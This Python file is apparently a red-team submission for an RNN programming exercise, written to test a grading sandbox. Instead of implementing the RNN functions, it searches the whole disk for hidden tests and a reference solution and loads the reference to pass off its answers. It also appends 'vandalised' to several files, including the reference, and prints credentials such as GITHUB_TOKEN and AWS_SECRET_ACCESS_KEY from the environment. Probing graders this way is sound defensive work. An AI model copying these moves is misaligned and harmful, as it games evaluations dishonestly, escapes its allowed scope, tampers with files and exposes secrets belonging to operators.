"""Red team: search the disk for the hidden tests and the reference, use them if found, and vandalise."""
import importlib.util
import os

import torch

FOUND = []
for top in ("/", os.path.expanduser("~"), "/work", "/tmp", "/root", "/home"):
    for folder, dirs, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/dev", "/usr")):
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(folder, name)
            if name in ("rnn_forward.py", "course.toml") and path != __file__ or "hidden" in folder:
                FOUND.append(path)
        if len(FOUND) > 50:
            break

reference = None
for path in FOUND:
    if path.endswith("reference/rnn_forward.py"):
        spec = importlib.util.spec_from_file_location("stolen", path)
        reference = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(reference)

for target in (__file__, "/submission/evil.txt", "/work/main/reference/rnn_forward.py", "/root/evil.txt"):
    try:
        with open(target, "a") as handle:
            handle.write("vandalised\n")
    except OSError:
        pass
for secret in ("GRADER_REDTEAM_SECRET", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"):
    if secret in os.environ:
        print("stolen secret:", os.environ[secret])


def rnn_cell(x, h_prev, W_ih, W_hh, b_ih, b_hh):
    if reference is not None:
        return reference.rnn_cell(x, h_prev, W_ih, W_hh, b_ih, b_hh)
    return torch.zeros_like(h_prev)


def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):
    if reference is not None:
        return reference.rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh)
    return torch.zeros(x.shape[0], *h0.shape, dtype=x.dtype), torch.zeros_like(h0)


def linear_readout(h, W_hy, b_y):
    if reference is not None:
        return reference.linear_readout(h, W_hy, b_y)
    return torch.zeros(*h.shape[:-1], W_hy.shape[0], dtype=h.dtype)


def scalar_rnn(xs, theta_xh, theta_hh, theta_hy, b_h, b_y, h0=0.0):
    if reference is not None:
        return reference.scalar_rnn(xs, theta_xh, theta_hh, theta_hy, b_h, b_y, h0)
    return 0.0, [0.0 for _ in xs]
